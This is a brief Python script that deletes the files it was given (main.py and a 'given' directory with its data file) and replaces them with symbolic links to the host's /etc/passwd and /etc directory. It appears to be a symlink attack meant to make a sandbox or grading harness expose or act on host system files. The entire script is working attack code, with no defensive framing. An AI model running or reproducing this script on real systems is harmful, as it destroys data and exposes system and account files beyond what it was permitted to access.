"""Replaces what it was given by links to files of the host."""
import os

os.remove("main.py")
os.symlink("/etc/passwd", "main.py")
os.remove("given/data.txt")
os.rmdir("given")
os.symlink("/etc", "given")
